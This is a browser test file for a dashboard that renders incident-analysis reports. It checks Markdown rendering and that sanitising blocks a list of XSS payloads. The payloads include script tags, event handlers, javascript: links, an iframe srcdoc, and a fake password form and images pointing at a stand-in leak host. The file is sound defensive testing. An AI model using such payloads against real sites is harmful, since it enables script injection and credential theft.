import { expect } from 'vitest';
import { calling } from '../e2e/scripted-system.js';
import { describeInBrowser, it, submitted } from './dashboard.js';

const REPORT = `# Root cause

The **data disk** is full, see \`/var/log\`.

| mount | used |
| ----- | ---- |
| /data | 97 % |

- rotate the logs
- [grow the disk](https://example.com/grow)
`;

/** Everything here would set \`window.broken\`, ask another server, or imitate the page. */
const HOSTILE = [
  '<script>window.broken = 1</script>',
  '<img src="https://leak.example.com/pixel.png" onerror="window.broken = 2">',
  '<svg onload="window.broken = 3"><circle r="9"/></svg>',
  '<a href="javascript:window.broken = 4">press me</a>',
  '[press me too](javascript:window.broken=5)',
  '<iframe srcdoc="<script>parent.broken = 6</script>"></iframe>',
  '<form action="https://leak.example.com"><input name="password"><button>Sign in</button></form>',
  '<style>body { display: none }</style>',
  '<div style="position:fixed;inset:0" onmouseover="window.broken = 7">cover</div>',
  '![picture](https://leak.example.com/second.png)',
].join('\n\n');

describeInBrowser('a finished session', () => {
  it('shows its report as rendered Markdown', async ({ dashboard, open }) => {
    const marker = dashboard.script((mark) => [{ text: `${REPORT}\n${mark}` }, { text: 'The disk is **full**.' }]);
    const sessionId = await submitted(dashboard, marker);
    await dashboard.system.finished(sessionId);
    const page = await open(`/sessions/${sessionId}`);
    const analysis = page.getByRole('region', { name: 'Final analysis' });
    await analysis.getByRole('heading', { name: 'Root cause' }).waitFor();
    expect(await analysis.locator('strong').innerText()).toBe('data disk');
    expect(await analysis.locator('code').innerText()).toBe('/var/log');
    await analysis.getByRole('cell', { name: '97 %' }).waitFor();
    expect(await analysis.getByRole('listitem').count()).toBe(2);
    const link = analysis.getByRole('link', { name: 'grow the disk' });
    expect(await link.getAttribute('rel')).toContain('noopener');
    const summary = page.getByRole('region', { name: 'Executive summary' });
    expect(await summary.locator('strong').innerText()).toBe('full');
  });

  it('renders hostile text without running, fetching or covering anything', async ({ dashboard, open, troubles }) => {
    // Chromium says so while the sanitiser parses, before it has taken the handlers out.
    troubles.expect(/Executing inline event handler violates the following Content Security Policy/);
    const marker = dashboard.script((mark) => [
      { thinking: HOSTILE, text: HOSTILE, ...calling('echo', { message: HOSTILE }) },
      { text: `${HOSTILE}\n\n${mark}` },
      { text: HOSTILE },
    ]);
    const { body } = await dashboard.system.submit({ data: `${marker}\n${HOSTILE}`, alert_type: 'test' });
    const sessionId = String(body['session_id']);
    await dashboard.system.finished(sessionId);
    const foreign: string[] = [];
    const page = await open('/submit');
    page.on('request', (request) => {
      if (!request.url().startsWith(dashboard.address)) foreign.push(request.url());
    });
    const dangerous = page
      .locator('main')
      .locator(
        'script, img, iframe, form[action], [name="password"], style, [href^="javascript:" i], [onmouseover], [onload]',
      );

    await page.goto(`/sessions/${sessionId}`);
    await page.getByRole('region', { name: 'Final analysis' }).getByText('press me too').waitFor();
    await page.getByRole('article', { name: 'Tool call' }).getByRole('button', { name: /echo/ }).click();
    await page.locator('summary').filter({ hasText: 'Alert' }).click();
    for (const text of await page.getByText(/^press me/).all()) await text.click();
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
    expect(await dangerous.count()).toBe(0);

    await page.goto(`/sessions/${sessionId}/trace`);
    const calls = page.getByRole('main').getByRole('listitem').getByRole('button', { expanded: false });
    await calls.first().waitFor();
    while ((await calls.count()) > 0) await calls.first().click();
    await page.getByText('leak.example.com').first().waitFor();
    expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
    expect(await dangerous.count()).toBe(0);
    expect(foreign).toEqual([]);
  });
});
